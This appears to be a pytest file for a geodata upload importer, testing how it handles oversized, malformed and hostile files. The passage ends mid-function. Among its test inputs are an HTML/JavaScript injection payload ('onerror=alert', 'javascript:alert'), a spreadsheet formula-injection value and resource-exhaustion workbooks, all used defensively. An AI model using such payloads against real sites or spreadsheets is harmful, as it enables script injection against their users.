"""One test per class of hostile or malformed upload, on files made by tests/hostile_files.py."""

from __future__ import annotations

import datetime
import io
import json
import re
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import shapely
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.worksheet._reader import WorkSheetParser
from pyproj import Geod

from atlas.data.geodata import load_districts, load_sites
from atlas.errors import AtlasError, UploadError
from atlas.geo.datum import from_wgs84
from atlas.geo.datumcheck import datum_report
from atlas.guard import run_guarded
from atlas.importing import (
    guess_columns,
    guess_mapping,
    header_roles,
    read_table,
    to_sites,
    validate,
)
from atlas.network import synthetic_grid
from atlas.readers import LayerChoiceError
from atlas.userlayers import list_user_layers, load_user_layer, save_user_layer
from tests import hostile_files as hf

GEOD = Geod(ellps="WGS84")


@pytest.fixture(scope="module")
def districts():
    return load_districts()


def _count_parsed_rows(monkeypatch) -> list[int]:
    calls = [0]
    original = WorkSheetParser.parse_row

    def counting(self, row):
        calls[0] += 1
        return original(self, row)

    monkeypatch.setattr(WorkSheetParser, "parse_row", counting)
    return calls


# --- limits that bite before the work -----------------------------------------------------------

def test_xlsx_with_too_many_rows_is_refused_at_the_limit_not_after_parsing_it(monkeypatch):
    data, name, _truth = hf.xlsx_million_rows(rows=60_000)
    calls = _count_parsed_rows(monkeypatch)
    with pytest.raises(UploadError, match=r"more than the limit of 5,000; the file declares about 60,001"):
        read_table(data, name, max_rows=5_000)
    assert calls[0] <= 5_000 + 40  # stopped at the limit (plus the header window), not at 60,001


def test_xlsx_declaring_a_huge_dimension_reads_only_the_rows_that_exist(monkeypatch):
    data, name, _ = hf.xlsx_declared_rows()
    calls = _count_parsed_rows(monkeypatch)
    df = read_table(data, name)
    assert calls[0] == 3 and df.iloc[0].tolist() == ["科技馆", "121.55", "29.87"]
    assert df.attrs["source_rows"].tolist() == [2, 1_048_576]  # the far cell keeps its row number


@pytest.mark.parametrize("mib", [1, 64])
def test_a_huge_cell_is_refused_before_the_workbook_is_parsed(monkeypatch, mib):
    import openpyxl

    def never(*a, **k):
        raise AssertionError("the workbook must not be parsed")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    data, name, _ = hf.xlsx_big_cell(mib=mib)
    assert len(data) < 50 * 1024 * 1024 // 100  # it slips under the upload limit by far
    with pytest.raises(UploadError, match="too long"):
        read_table(data, name)


def test_a_workbook_too_large_once_unpacked_is_refused_unopened(monkeypatch):
    data, name, _ = hf.xlsx_big_cell(mib=300)
    with pytest.raises(UploadError, match="too large once unpacked"):
        read_table(data, name)


@pytest.mark.parametrize("where", ["name", "address"])
def test_an_over_long_csv_field_is_refused_with_its_position(where):
    df = hf.sites(5)
    df.loc[3, where] = "长" * 40_000
    data = df.rename(columns={"name": "名称", "lon": "经度", "lat": "纬度", "address": "地址"}).to_csv(
        index=False).encode("utf-8")
    col = list(df.columns).index(where) + 1
    with pytest.raises(UploadError, match=rf"Row 5, column {col} is too long"):
        read_table(data, "a.csv")


def test_long_but_allowed_names_are_kept_whole_and_shown_short_on_the_map(districts, tmp_path):
    """1,000 names of 32,000 characters (under the cell limit): stored whole, and the map stays small.

    Each name reached the browser three times (tooltip, popup, label): ~100 MB of map per
    session and per cached layer spec, a MemoryError waiting to happen.
    """
    from atlas.data.catalogue import load_catalogue
    from atlas.userlayers import user_catalogue
    from atlas.webmap import POPUP_CHARS, TIP_CHARS, build_map, layer_spec, tooltip_texts

    s = hf.sites(1000, seed=9)
    s["name"] = [f"{i}号" + "长名" * 5 + "A" * 31_980 for i in range(len(s))]
    data = s.rename(columns={"name": "名称", "lon": "经度", "lat": "纬度", "address": "地址"}).to_csv(
        index=False).encode("utf-8")
    df = read_table(data, "long.csv")
    r = validate(df, guess_mapping(df).mapping, datum="wgs84", districts=districts)
    assert r.counts() == {"ok": 1000}
    shown = r.display_table("en")  # the page's row-by-row table
    assert shown["名称"].str.len().max() == 200 and shown["名称"].iloc[3] == s.name[3][:199] + "…"
    assert shown["地址"].tolist() == s.address.tolist()  # short cells as they are
    assert "status" in shown and set(shown.status) == {"ok"}
    save_user_layer("长名称", to_sites(r, layer_name="long"), folder=tmp_path)
    layers, frames = user_catalogue(folder=tmp_path)
    lyr, gdf = layers[0], frames[layers[0].id]
    assert gdf.name_zh.tolist() == s.name.tolist()  # the stored value is never shortened
    tips = tooltip_texts(lyr, gdf)
    assert max(map(len, tips)) <= TIP_CHARS and tips[7] == (s.name[7][:TIP_CHARS - 1] + "…")
    spec = json.loads(layer_spec(lyr, gdf))
    assert len(spec["rows"]) == 1000
    popup_values = [v for row in spec["rows"] for v in row[5]]
    assert max(map(len, popup_values)) <= POPUP_CHARS and popup_values[0].startswith("0号长名")
    html = build_map([*load_catalogue(), *layers], frames, basemap="none").get_root().render()
    assert len(html.encode("utf-8")) < 3_000_000  # was ~100 MB


def test_the_worker_stops_on_time_and_memory_and_the_server_stays_free():
    t0 = time.perf_counter()
    with pytest.raises(UploadError, match="ran out of time"):
        run_guarded(time.sleep, 30, time_s=1.0)
    # stopped at its 1 s limit, not after the 30 s it asked for (starting the worker process took
    # 12 s of it at load 14, two full test runs at once on 2 cores: 10 s was not a bound on that)
    assert time.perf_counter() - t0 < 25
    with pytest.raises(UploadError, match="too much memory"):
        run_guarded(np.ones, 4 * 1024**3 // 8, memory_bytes=512 * 1024**2)
    # errors raised on purpose come back as themselves, options included
    data, name, truth = hf.gpkg_layers()
    with pytest.raises(LayerChoiceError) as err:
        run_guarded(read_table, data, name)
    assert err.value.options == truth["layers"]
    df = run_guarded(read_table, data, name, layer="layer_1")  # and the worker is usable again
    assert len(df) == truth["rows"]["layer_1"]


# --- delimiter, header row, header names, merged cells -------------------------------------------

@pytest.mark.parametrize(("delimiter", "encoding"), [(";", "utf-8"), ("\t", "utf-16"), ("|", "gb18030"),
                                                      (",", "utf-8-sig"), ("\t", "gb18030")])
@pytest.mark.parametrize("title_rows", [0, 2])
def test_delimiters_encodings_and_title_rows(districts, delimiter, encoding, title_rows):
    data, name, truth = hf.csv_delimited(delimiter=delimiter, encoding=encoding, title_rows=title_rows,
                                         seed=title_rows)
    df = read_table(data, name)
    info = df.attrs["read_info"]
    assert info.delimiter == delimiter and info.header_row == title_rows + 1
    assert info.encoding == encoding  # a BOM is reported only when there is one
    assert len(info.title_rows) == title_rows
    r = validate(df, guess_columns(list(df.columns)), datum="wgs84", districts=districts)
    assert r.counts() == {"ok": len(truth["names"])}
    assert r.table["名称"].tolist() == truth["names"]
    assert np.allclose(r.table.lon_wgs84, truth["lon"])
    assert r.table.row.iloc[0] == title_rows + 2  # spreadsheet row numbers in the report


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_trailing_delimiters_do_not_shift_columns(districts, delimiter):
    data, name, truth = hf.csv_delimited(delimiter=delimiter, trailing=True)
    df = read_table(data, name)
    assert list(df.columns) == ["名称", "经度", "纬度", "所在区县", "详细地址"]
    assert df.attrs["read_info"].dropped_columns == 1
    r = validate(df, guess_columns(list(df.columns)), datum="wgs84", districts=districts)
    assert r.counts() == {"ok": len(truth["names"])}


@pytest.mark.parametrize(("header", "roles"), [
    ("Unnamed: 1", {}), ("Website", {}), ("URL", {}), ("Index", {}), ("经营范围", {}),
    ("name", {"name": 2}), ("Site Name", {"name": 2}), ("siteName", {"name": 2}), ("场馆名称", {"name": 1}),
    ("百度经度", {"lon": 1}), ("经度（GCJ-02）", {"lon": 2}), ("lon_gcj02", {"lon": 1}), ("X", {"lon": 2}),
    ("POINT_Y", {"lat": 1}), ("xy", {}), ("所在区县", {"district": 1}), ("Type", {"category": 2}),
])
def test_header_names_match_whole_tokens_only(header, roles):
    assert header_roles(header) == roles


def test_url_and_index_columns_never_name_the_sites(districts):
    data, name, truth = hf.csv_delimited(headers="traps")
    df = read_table(data, name)
    g = guess_mapping(df)
    assert g.mapping["name"] == "name" and g.mapping["lon"] == "lng" and not g.needs_confirmation
    r = validate(df, g.mapping, datum="wgs84", districts=districts)
    assert r.table["name"].tolist() == truth["names"]


def test_ambiguous_or_implausible_mappings_ask_for_confirmation():
    two_names = pd.DataFrame({"名称": ["a"], "单位名称": ["b"], "经度": ["121.5"], "纬度": ["29.8"]})
    g = guess_mapping(two_names)
    assert g.mapping["name"] == "名称" and "单位名称" not in g.ambiguous.get("name", [])  # exact wins
    tie = guess_mapping(pd.DataFrame({"场馆名称": ["a"], "单位名称": ["b"], "lon": ["121.5"],
                                      "lat": ["29.8"]}))
    assert tie.ambiguous["name"] == ["场馆名称", "单位名称"] and tie.needs_confirmation
    urls = guess_mapping(pd.DataFrame({"name": ["http://a.cn/1", "http://a.cn/2"], "lon": ["121.5"] * 2,
                                       "lat": ["29.8"] * 2}))
    assert urls.ambiguous["name"] == ["name"] and urls.needs_confirmation
    bare = guess_mapping(pd.DataFrame({"A": ["科技馆", "图书馆"], "B": ["121.553", "121.612"],
                                       "C": ["29.871", "29.902"]}))
    assert bare.mapping["name"] == "A" and (bare.mapping["lon"], bare.mapping["lat"]) == ("B", "C")
    assert set(bare.inferred) == {"name", "lon", "lat"} and bare.needs_confirmation
    # a repeated grouping column (a street) is not taken for the names (each village its own)
    grouped = guess_mapping(pd.DataFrame({"street": ["宗汉街道"] * 3 + ["坎墩街道"] * 3,
                                          "community_or_village": [f"村{i}" for i in range(6)]}))
    assert grouped.mapping["name"] == "community_or_village" and "name" in grouped.inferred


def test_merged_category_cells_are_propagated_and_reported(districts):
    data, name, truth = hf.xlsx_merged_category(n=12)
    df = read_table(data, name)
    info = df.attrs["read_info"]
    assert info.merged_ranges == 3 and info.merged_cells_filled == 9
    assert any("merged" in en for _, en in info.notes)
    r = validate(df, guess_columns(list(df.columns)), datum="wgs84", districts=districts)
    assert r.table["类别"].tolist() == truth["category"]
    assert r.table.category_code.tolist() == [{"科技馆": "kepu_site", "图书馆": "kepu_site",
                                               "高校": "university"}[c] for c in truth["category"]]


def test_a_blank_first_sheet_is_skipped_and_every_sheet_with_data_can_be_chosen():
    rows = hf.sites(3)
    table = [["名称", "经度", "纬度"],
             *[[n, x, y] for n, x, y in zip(rows.name, rows.lon, rows.lat, strict=True)]]
    data = hf.write_xlsx({"封面": [], "名单": table, "备注": [["说明"], ["仅供内部使用"]]})
    df = read_table(data, "book.xlsx")
    info = df.attrs["read_info"]
    assert info.sheets == ["名单", "备注"] and info.sheet == "名单"  # an empty sheet is not offered
    assert df["名称"].tolist() == rows.name.tolist()
    assert read_table(data, "book.xlsx", layer="备注").attrs["read_info"].sheet == "备注"
    with pytest.raises(UploadError, match="no data rows"):
        read_table(data, "book.xlsx", layer="封面")
    with pytest.raises(UploadError, match="no data rows"):
        read_table(hf.write_xlsx({"a": [], "b": []}), "empty.xlsx")


# --- geometry honesty ------------------------------------------------------------------------------

def test_points_stay_points_and_shapes_get_an_error_radius_from_their_extent(districts):
    data, name, truth = hf.geojson_shapes(n=9)
    df = read_table(data, name)
    r = validate(df, guess_mapping(df).mapping, datum="wgs84", districts=districts)
    sites = to_sites(r, layer_name="t", est_error_m=50)
    for kind, ext, err in zip(truth["kinds"], truth["extent_m"], sites.est_error_m, strict=True):
        if kind == "point":
            assert err == 50
        else:  # the farthest part of the shape from its point, never the flat 50 m
            assert err == pytest.approx(max(50, ext), rel=0.2)


def test_areas_can_be_kept_as_an_area_layer(districts, tmp_path):
    data, name, _ = hf.geojson_shapes(n=5, kinds=("polygon",))
    df = read_table(data, name)
    r = validate(df, guess_mapping(df).mapping, datum="gcj02", districts=districts)
    areas = to_sites(r, layer_name="园区", shapes="keep")
    assert set(areas.geometry.geom_type) == {"Polygon"}
    # the datum applies to every vertex, not only to the representative point
    original = shapely.from_geojson(json.dumps(json.loads(data)["features"][0]["geometry"]))
    shift = GEOD.inv(original.centroid.x, original.centroid.y, areas.geometry.iloc[0].centroid.x,
                     areas.geometry.iloc[0].centroid.y)[2]
    assert 400 < shift < 600
    save_user_layer("园区", areas, folder=tmp_path)
    rec = list_user_layers(folder=tmp_path)[0]
    assert rec["kind"] == "polygon"
    assert set(load_user_layer(rec["key"], folder=tmp_path).geometry.geom_type) == {"Polygon"}


def test_geometry_wins_over_empty_coordinate_properties(districts):
    data, name, truth = hf.geojson_shapes(kinds=("point",), empty_coordinate_props=True)
    df = read_table(data, name)
    g = guess_mapping(df)
    assert (g.mapping["lon"], g.mapping["lat"]) == ("geom_lon", "geom_lat")
    r = validate(df, g.mapping, datum="wgs84", districts=districts)
    assert r.counts() == {"ok": len(truth["names"])}


def test_address_only_features_are_kept_as_unplaced(districts):
    data, name, _truth = hf.geojson_shapes(n=4, kinds=("point",), address_only=3)
    df = read_table(data, name)
    r = validate(df, guess_mapping(df).mapping, datum="wgs84", districts=districts)
    assert r.counts() == {"ok": 4, "unplaced": 3}
    sites = to_sites(r, layer_name="t")
    assert (sites.position_status == "unplaced").sum() == 3 and sites.address.str.len().gt(0).all()


def test_a_multi_layer_geopackage_asks_which_layer():
    data, name, truth = hf.gpkg_layers(layers=3)
    with pytest.raises(LayerChoiceError) as err:
        read_table(data, name)
    assert err.value.options == truth["layers"] and "choose one" in err.value.en
    for layer in truth["layers"]:
        df = read_table(data, name, layer=layer)
        assert len(df) == truth["rows"][layer] and df.attrs["read_info"].layer == layer
    with pytest.raises(UploadError, match="no layer"):
        read_table(data, name, layer="nope")


@pytest.mark.parametrize("kind", ["geojson", "gpkg"])
def test_parser_messages_never_show_server_paths(kind):
    data, name, _ = hf.malformed_geo(kind=kind)
    with pytest.raises(UploadError) as err:
        read_table(data, name)
    for text in (err.value.zh, err.value.en):
        assert "/tmp" not in text and "upload." not in text and not re.search(r"/\w+/", text)


# --- the datum check works for any list ------------------------------------------------------------

@pytest.mark.parametrize("with_district", [True, False])
def test_unknown_places_in_gcj02_declared_wgs84_are_flagged_by_coast_and_district_lines(
        districts, with_district):
    data, name, _truth = hf.gcj_near_lines(n=150, seed=1, with_district=with_district)
    df = read_table(data, name)
    sites = load_sites()
    wrong = validate(df, guess_columns(list(df.columns)), datum="wgs84", districts=districts)
    report = datum_report(wrong, sites=sites, districts=districts)
    assert [c.method for c in report.checks] == ["land"]  # no known names, no network: lines only
    assert report.suggest == "gcj02", report.checks[0].en
    right = validate(df, guess_columns(list(df.columns)), datum="gcj02", districts=districts)
    ok = datum_report(right, sites=sites, districts=districts)
    assert ok.suggest is None and ok.checks[0].detail["sensitive"] >= 3


def test_a_list_far_from_every_line_says_no_check_was_possible(districts):
    rng = np.random.default_rng(0)
    lon, lat = rng.uniform(121.535, 121.545, 30), rng.uniform(29.865, 29.875, 30)  # inner 鄞州/海曙
    df = pd.DataFrame({"名称": [f"点{i}" for i in range(30)], "经度": lon.round(6).astype(str),
                       "纬度": lat.round(6).astype(str)})
    r = validate(df, guess_columns(list(df.columns)), datum="wgs84", districts=districts)
    report = datum_report(r, sites=load_sites(), districts=districts)
    assert report.suggest is None and report.checks[-1].method == "none"
    assert "could not be confirmed" in report.checks[-1].en


def test_streets_of_a_cached_network_check_the_datum(districts):
    net = synthetic_grid(8, spacing_m=1500.0, origin=(121.45, 29.80))
    rng = np.random.default_rng(3)
    idx = rng.choice(len(net.lon), 25, replace=False)
    glon, glat = from_wgs84(net.lon[idx], net.lat[idx], datum="gcj02")
    df = pd.DataFrame({"名称": [f"画廊{i}" for i in range(25)], "经度": glon.round(7).astype(str),
                       "纬度": glat.round(7).astype(str)})
    wrong = validate(df, guess_columns(list(df.columns)), datum="wgs84", districts=districts)
    report = datum_report(wrong, sites=load_sites(), districts=districts, net=net)
    streets = next(c for c in report.checks if c.method == "streets")
    assert streets.suggest == "gcj02" and report.suggest == "gcj02"


# --- property test: read -> guess -> validate never fails with anything but a clear error -----------

_HEADERS = {"name": ["名称", "name", "场馆名称", "Site Name", "名字"],
            "lon": ["经度", "lon", "lng", "Longitude"], "lat": ["纬度", "lat", "Latitude"],
            "district": ["区县", "district"], "noise": ["Website", "备注", "Unnamed: 1"]}


@st.composite
def layouts(draw):
    n = draw(st.integers(1, 15))
    roles = draw(st.permutations(["name", "lon", "lat", "district", "noise"]))
    cols = [draw(st.sampled_from(_HEADERS[r])) for r in roles]
    delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16"]))
    titles = draw(st.integers(0, 2))
    trailing = draw(st.booleans())
    rng = np.random.default_rng(draw(st.integers(0, 2**16)))
    values = {"name": [f"场馆{i}" for i in range(n)],
              "lon": [f"{v:.6f}" for v in rng.uniform(121.5, 121.6, n)],
              "lat": [f"{v:.6f}" for v in rng.uniform(29.84, 29.9, n)], "district": ["鄞州区"] * n,
              "noise": [draw(st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=8))
                        .replace(delimiter, " ").replace('"', "'") for _ in range(n)]}
    end = delimiter if trailing else ""
    lines = [f"宁波市科普名单{k}" for k in range(titles)] + [delimiter.join(cols) + end]
    for i in range(n):
        lines.append(delimiter.join(values[r][i] for r in roles) + end)
    return "\n".join(lines).encode(encoding), roles, cols, values


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(case=layouts())
def test_fuzzed_layouts_read_correctly_or_fail_clearly(districts, case):
    data, roles, cols, values = case
    try:
        df = read_table(data, "fuzz.csv")
        mapping = guess_mapping(df).mapping
        r = validate(df, mapping, datum="wgs84", districts=districts)
    except AtlasError:
        return
    name_col = cols[roles.index("name")]
    if mapping["name"] == name_col and mapping["lon"] == cols[roles.index("lon")]:
        assert r.table[name_col].tolist() == values["name"]
        assert r.counts().get("ok", 0) == len(values["name"])


_PIECES = ["名称", "经度", "纬度", "121.5", "29.8", "", '"', "\n", ",", ";", "\t", "x" * 5, "\x00", "é"]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.one_of(st.binary(max_size=400),
                      st.text(max_size=300).map(lambda s: s.encode("utf-8")),
                      st.lists(st.lists(st.sampled_from(_PIECES), max_size=6), max_size=8)
                      .map(lambda rows: "\n".join(",".join(r) for r in rows).encode("gb18030"))),
       ext=st.sampled_from([".csv", ".txt", ".xlsx", ".geojson", ".gpkg"]))
def test_fuzzed_bytes_give_a_table_or_a_clear_error(districts, data, ext):
    try:
        df = read_table(data, f"fuzz{ext}")
        g = guess_mapping(df)
        if g.mapping.get("name"):
            validate(df, g.mapping, datum="gcj02", districts=districts)
    except AtlasError as exc:
        assert exc.zh and exc.en and "/tmp" not in exc.en and "Traceback" not in exc.en


def test_area_and_line_layers_draw_on_the_web_map_and_in_exports(districts, tmp_path):
    from atlas.io.export import render_static_map
    from atlas.userlayers import user_catalogue
    from atlas.webmap import build_map

    for kind in ("polygon", "line"):
        data, name, _ = hf.geojson_shapes(n=4, kinds=(kind,), address_only=1)
        df = read_table(data, name)
        r = validate(df, guess_mapping(df).mapping, datum="wgs84", districts=districts)
        save_user_layer(f"我的{kind}", to_sites(r, layer_name=kind, shapes="keep"), folder=tmp_path)
    layers, frames = user_catalogue(folder=tmp_path)
    assert sorted(lyr.geometry for lyr in layers) == ["line", "polygon"]
    assert all(f.geometry.isna().sum() == 1 for f in frames.values())  # the address-only row, kept
    html = build_map(layers, frames, basemap="none").get_root().render()
    assert html.count('"type":"LineString"') == 4 and html.count('"type":"Polygon"') == 4
    html_d = build_map(layers, frames, basemap="none", districts=["鄞州区"]).get_root().render()
    assert html_d.count('"type":"LineString"') <= 4
    out = render_static_map(layers, frames, tmp_path / "m.png", title="t", dpi=50)
    assert out.stat().st_size > 1000


# --- where the list is in a workbook ------------------------------------------------------------------


def _placed(df, districts, datum="wgs84"):
    g = guess_mapping(df)
    return validate(df, g.mapping, datum=datum, districts=districts), g


@pytest.mark.parametrize("layout", ["instructions_first", "empty_first", "hidden_sheet", "list_on_sheet3"])
def test_the_sheet_holding_the_list_is_read_and_the_others_offered(layout, districts):
    data, name, truth = hf.xlsx_sheets(layout=layout, seed=3)
    df = read_table(data, name)
    info = df.attrs["read_info"]
    assert info.sheet == truth["sheet"]
    assert sorted(info.sheets) == sorted(truth["sheets_with_data"])  # what the page offers
    r, g = _placed(df, districts)
    assert not g.needs_confirmation and r.counts() == {"ok": len(truth["names"])}
    assert r.table["名称"].tolist() == truth["names"]
    np.testing.assert_allclose(r.table.lon_wgs84, truth["lon"], atol=1e-9)
    if layout == "hidden_sheet":
        assert any("旧名单" in zh for zh, _ in info.notes)
    for other in [s for s in info.sheets if s != truth["sheet"]]:  # any other sheet can be chosen
        try:
            assert read_table(data, name, layer=other).attrs["read_info"].sheet == other
        except UploadError as exc:  # a sheet of one line: said plainly
            assert "no data rows" in exc.en


def test_the_import_page_preselects_the_list_sheet_and_offers_the_instructions():
    from streamlit.testing.v1 import AppTest

    data, name, _truth = hf.xlsx_sheets(layout="instructions_first")
    page = str(Path(__file__).resolve().parents[1] / "pages" / "5_导入_Import.py")
    at = AppTest.from_file(page, default_timeout=120).run()
    at.file_uploader(key="imp_file").set_value((name, data, "application/vnd.ms-excel")).run()
    assert not at.exception
    picker = next(s for s in at.selectbox if str(s.key).startswith("imp_layer_"))
    assert picker.value == "场馆名单" and picker.options == ["填写说明", "场馆名单"]
    assert any("5 行" in c.value for c in at.caption)


def test_a_header_below_title_rows_is_found(districts):
    data, name, truth = hf.xlsx_header_below(title_rows=3)
    df = read_table(data, name)
    assert df.attrs["read_info"].header_row == truth["header_row"]
    r, _ = _placed(df, districts)
    assert r.table["名称"].tolist() == truth["names"] and r.counts() == {"ok": len(truth["names"])}


@pytest.mark.parametrize("cached", [True, False])
def test_formula_cells_give_their_saved_result_or_are_named(cached, districts):
    data, name, truth = hf.xlsx_formulas(cached=cached)
    df = read_table(data, name)
    r, _ = _placed(df, districts)
    notes = " ".join(en for _, en in df.attrs["read_info"].notes)
    if cached:
        np.testing.assert_allclose(r.table.lon_wgs84, truth["lon"], atol=1e-9)
        assert "formula" not in notes
    else:  # no result to read: never a guessed coordinate, and the page says which cells
        assert (r.table.status == "error").all() and r.table.lon_wgs84.isna().all()
        assert "5 formula cells hold no saved result (e.g. C2, C3, C4, C5, C6)" in notes


def test_coordinates_formatted_as_dates_are_read_as_their_numbers(districts):
    data, name, truth = hf.xlsx_dates_as_coordinates()
    df = read_table(data, name)
    r, _ = _placed(df, districts)
    np.testing.assert_allclose(r.table.lon_wgs84, truth["lon"], atol=1e-7)
    np.testing.assert_allclose(r.table.lat_wgs84, truth["lat"], atol=1e-7)
    assert any("10 cells are formatted as dates" in en for _, en in df.attrs["read_info"].notes)


def test_real_dates_stay_dates():
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.append(["名称", "经度", "纬度", "开放日期"])
    wb.active.append(["科技馆", 121.55, 29.87, datetime.datetime(2024, 5, 1)])
    buf = io.BytesIO()
    wb.save(buf)
    df = read_table(buf.getvalue(), "d.xlsx")
    assert df["开放日期"].tolist() == ["2024-05-01T00:00:00"]


# --- coordinates written as text --------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["fullwidth", "decimal_comma", "dms", "hemisphere"])
def test_coordinates_written_as_planners_write_them_are_read_with_a_note(kind, fmt, districts):
    data, name, truth = hf.text_numbers(kind=kind, fmt=fmt, seed=4)
    df = read_table(data, name)
    r, _ = _placed(df, districts)
    assert r.counts() == {"ok": len(truth["names"])}
    np.testing.assert_allclose(r.table.lon_wgs84, truth["lon"], atol=2e-6)  # DMS to 1e-4 s
    np.testing.assert_allclose(r.table.lat_wgs84, truth["lat"], atol=2e-6)
    assert r.table.reasons.map(lambda rs: "coordinates_repaired" in rs).all()


@pytest.mark.parametrize(
    "cell",
    ["121°61'", "121 33.5 10", "121.55 29.87", "约121", "121..5", "E121.5N", "1e400", "nan", "inf", "--121"],
)
def test_what_is_not_a_coordinate_is_refused_not_guessed(cell, districts):
    df = read_table(f"名称,经度,纬度\n场馆,{cell},29.87\n".encode(), "x.csv")
    r, _ = _placed(df, districts)
    assert r.table.status.tolist() == ["error"] and "invalid_coordinates" in r.table.reasons[0]


@pytest.mark.parametrize(
    ("order", "header"), [("lonlat", "坐标"), ("latlon", "经纬度"), ("lonlat", "lnglat")]
)
def test_both_coordinates_in_one_cell_are_split(order, header, districts):
    data, name, truth = hf.lonlat_one_cell(order=order, header=header)
    df = read_table(data, name)
    r, g = _placed(df, districts)
    assert r.counts() == {"ok": len(truth["names"])} and not g.needs_confirmation
    np.testing.assert_allclose(r.table.lon_wgs84, truth["lon"], atol=1e-9)
    np.testing.assert_allclose(r.table.lat_wgs84, truth["lat"], atol=1e-9)
    assert any("split into longitude and latitude" in en for _, en in df.attrs["read_info"].notes)


# --- text files ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("bom", ["utf8", "gb18030"])
def test_a_bom_before_gb18030_text_is_not_part_of_the_header(bom, districts):
    data, name, truth = hf.csv_bom_gb18030(bom=bom)
    df = read_table(data, name)
    assert list(df.columns)[:3] == ["名称", "经度", "纬度"] and df.attrs["read_info"].encoding == "gb18030"
    r, _ = _placed(df, districts)
    assert r.table["名称"].tolist() == truth["names"] and r.counts() == {"ok": len(truth["names"])}


def test_mixed_line_endings_lose_no_row(districts):
    data, name, truth = hf.csv_mixed_line_endings(n=10)
    df = read_table(data, name)
    r, _ = _placed(df, districts)
    assert r.table["名称"].tolist() == truth["names"]
    np.testing.assert_allclose(r.table.lat_wgs84, truth["lat"], atol=1e-9)
    assert df.attrs["source_rows"].tolist() == list(range(2, 12))


def test_trailing_empty_columns_are_dropped_with_a_note(districts):
    data, name, _truth = hf.csv_delimited(trailing=True, delimiter=",")
    df = read_table(data, name)
    assert not [c for c in df.columns if c.startswith("列")]
    assert any("empty columns" in en for _, en in df.attrs["read_info"].notes)


def test_repeated_headers_are_numbered_said_and_confirmed(districts):
    data, name, truth = hf.csv_duplicate_headers()
    df = read_table(data, name)
    assert list(df.columns) == ["名称", "名称 (2)", "经度", "纬度", "备注", "备注 (2)"]
    assert any("Repeated column names: 名称, 备注" in en for _, en in df.attrs["read_info"].notes)
    g = guess_mapping(df)
    assert g.mapping["name"] == "名称" and g.needs_confirmation  # the planner confirms which name
    r = validate(df, g.mapping, datum="wgs84", districts=districts)
    assert r.table["名称"].tolist() == truth["names"]


@pytest.mark.parametrize(
    ("ext", "says"),
    [
        (".xls", "save it as .xlsx or CSV"),
        (".kml", "GeoPackage"),
    ],
)
def test_formats_not_read_are_refused_saying_how_to_convert(ext, says):
    """(A zipped Shapefile is read: tests/test_zipped_shapefile.py.)"""
    data = b"\xd0\xcf\x11\xe0" + b"\x00" * 100
    with pytest.raises(UploadError) as err:
        read_table(data, f"list{ext}")
    assert says in err.value.en and "另存为" in err.value.zh


# --- names: invisible characters, markup, formulas -----------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "geojson"])
def test_control_and_invisible_characters_leave_names_and_text_with_a_note(fmt, districts, tmp_path):
    data, name, truth = hf.names_with_control_chars(fmt=fmt)
    df = read_table(data, name)
    assert df["名称"].tolist() == truth["clean"]
    assert any("Removed control or invisible characters" in en for _, en in df.attrs["read_info"].notes)
    r, _ = _placed(df, districts)
    assert r.table.status.iloc[-1] == "error" and r.table.reasons.iloc[-1] == ["missing_name"]
    saved = save_user_layer("控制字符", to_sites(r, layer_name="控制字符"), folder=tmp_path)
    back = load_user_layer(saved.key, folder=tmp_path)
    bad = re.compile("[\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff]")
    for col in back.columns:
        if back[col].dtype == object or pd.api.types.is_string_dtype(back[col]):
            assert not [v for v in back[col] if isinstance(v, str) and bad.search(v)], col
    assert back.name_zh.tolist() == truth["clean"][:-1]


def test_every_control_format_and_surrogate_character_is_removed():
    import sys
    import unicodedata

    from atlas.readers import clean_text

    for cp in range(sys.maxunicode + 1):
        ch = chr(cp)
        if unicodedata.category(ch) in ("Cc", "Cf", "Cs"):
            assert clean_text(f"甬{ch}江") in ("甬江", "甬 江"), hex(cp)
    assert clean_text("宁波 科技馆") == "宁波 科技馆"  # ordinary text is untouched


def test_markup_names_are_kept_as_text_and_escaped_on_the_map(districts):
    data, name, truth = hf.markup_names()
    df = read_table(data, name)
    r, _ = _placed(df, districts)
    expected = [n.strip() for n in truth["names"]]
    expected[expected.index("\t=1+1".strip())] = "=1+1"
    assert r.table["名称"].tolist() == expected  # stored as typed: never stripped or rewritten


def test_markup_in_what_reading_found_is_shown_as_text_on_the_page():
    """Title rows, sheet names and column names reach the page's notes: escaped, never markup."""
    from streamlit.testing.v1 import AppTest

    from ui.cards import md_escape

    title = "<img src=x onerror=alert(1)> **粗体** [点我](javascript:alert(1))"
    rows = [[title], ["名称", "经度", "纬度", "名称"], ["科技馆", 121.55, 29.87, "x"]]
    data = hf.write_xlsx({"<b>说明</b>": [["坐标请使用高德坐标"]], "名单": rows})
    page = str(Path(__file__).resolve().parents[1] / "pages" / "5_导入_Import.py")
    at = AppTest.from_file(page, default_timeout=120).run()
    at.file_uploader(key="imp_file").set_value(("markup.xlsx", data, "application/vnd.ms-excel")).run()
    assert not at.exception
    bodies = [i.value for i in at.info]
    assert any(md_escape(title) in b for b in bodies), bodies  # the title row, escaped whole
    assert not any(title in b for b in bodies)
    picker = next(s for s in at.selectbox if str(s.key).startswith("imp_layer_"))
    assert picker.options == ["<b>说明</b>", "名单"]  # a select box shows its options as text
    picker.set_value("<b>说明</b>").run()  # a sheet of one line: said, and the choice stays
    assert at.error and "没有数据行" in at.error[0].value
    picker = next(s for s in at.selectbox if str(s.key).startswith("imp_layer_"))
    picker.set_value("名单").run()
    assert not at.error and any("1 行" in c.value for c in at.caption)


def test_formulas_in_names_are_neutralised_in_every_csv_written(districts, tmp_path):
